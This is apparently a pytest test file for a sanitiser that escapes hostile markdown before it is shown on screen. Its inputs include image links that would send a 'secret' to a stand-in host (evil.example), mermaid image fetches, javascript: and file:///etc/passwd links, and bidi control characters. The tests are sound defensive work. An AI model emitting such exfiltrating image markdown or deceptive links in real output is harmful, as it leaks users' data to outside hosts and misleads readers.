"""What hostile text may do on the screen: be read, and nothing else."""

import pytest

from ui import safe

EVIL = "http://evil.example/?q=secret"


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})",
        f"![x][ref]\n\n[ref]: {EVIL}",
        f"[![x]({EVIL})](http://a.example)",
        f"> - ![x]({EVIL})",
        f"text!![x]({EVIL})",
    ],
)
def test_no_image_is_left_to_fetch(text: str) -> None:
    """An exclamation mark never stands unescaped before a bracket."""
    assert "![" not in safe.markdown(text)


@pytest.mark.parametrize(
    "fence",
    [
        "```mermaid",
        "~~~mermaid",
        "``` mermaid",
        "````Mermaid theme",
        "```{mermaid}",
        "- ```mermaid",
        "> ```mermaid",
    ],
)
def test_no_diagram_is_drawn_from_content(fence: str) -> None:
    drawn = safe.markdown(f'{fence}\ngraph TD; A@{{ img: "{EVIL}" }}\n```')
    assert "mermaid" not in drawn.splitlines()[0].lower()


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        (
            "[bank](https://evil.example/login)",
            "[bank](https://evil.example/login) (evil.example)",
        ),
        ("[x](javascript:alert(1))", r"[x]\(javascript"),
        ("[x](data:text/html;base64,AA)", "x"),
        ("[x](file:///etc/passwd)", "x"),
    ],
)
def test_a_link_shows_its_host_or_is_none(text: str, drawn: str) -> None:
    shown = safe.markdown(text)
    assert shown.startswith(drawn)
    assert "data:" not in shown


def test_badges_icons_and_formulas_cannot_be_imitated() -> None:
    shown = safe.markdown(":green-badge[Approved] :material/check: costs $5 and $6")
    assert r"\:green-badge[" in shown
    assert r"\:material/check:" in shown
    assert r"\$5" in shown


def test_invisible_and_turning_characters_are_gone() -> None:
    assert safe.markdown("a\u202eb\u200bc\u2066d\ufeff\u0000e") == "abcde"
    assert safe.plain("a\u202eb") == "ab"


@pytest.mark.parametrize(
    "code",
    [
        "```rust\nlet v = vec![1]; // $HOME :x[y]\n```",
        "`vec![1]` and `$x`",
        "``a ` ![b]``",
        "~~~\n![kept](as it is)\n~~~",
    ],
)
def test_code_stays_as_it_is(code: str) -> None:
    assert safe.markdown(code) == code


def test_a_label_is_one_plain_line() -> None:
    assert safe.plain("a\n*b* [c](d)") == r"a \*b\* \[c\](d)"


def test_an_address_in_a_plain_line_is_no_link() -> None:
    """A parser finds addresses after escapes; an invisible character keeps this from being one."""
    assert safe.plain("of ada@lovelace.example") == "of ada@\u2060lovelace.example"
    assert safe.plain("see HTTPS://evil.example/a") == "see HTTPS\\:\u2060//evil.example/a"
    assert safe.plain("http://evil.example") == "http\\:\u2060//evil.example"
    assert safe.plain("www.evil.example") == "www\u2060.evil.example"
    assert safe.label("`code` http://evil.example") == "`code` http\\:\u2060//evil.example"
    assert safe.plain("a @ b") == "a @ b"
    assert safe.plain("@ada") == "@ada"


def test_a_label_may_hold_code_and_nothing_else() -> None:
    assert safe.label("`ON DELETE` and *x*") == r"`ON DELETE` and \*x\*"
    assert safe.label("an odd ` tick ![x](y)") == r"an odd \` tick \!\[x\](y)"


def test_a_chart_name_is_letters_digits_and_little_else() -> None:
    assert safe.chart_name('a@{img:"x"}; click b') == "aimgx click b"


@pytest.mark.parametrize(
    ("text", "leads"),
    [
        ("https://jira.example/browse/A-1", True),
        ("/issues?key=A-1", True),
        ("/library?document=x", False),
        ("javascript:alert(1)", False),
        ("https:///nowhere", False),
        ("Introduction to databases, lecture 2", False),
        ("see https://jira.example", False),
    ],
)
def test_what_leads_somewhere_is_told_from_mere_text(text: str, leads: bool) -> None:
    assert safe.is_address(text) is leads
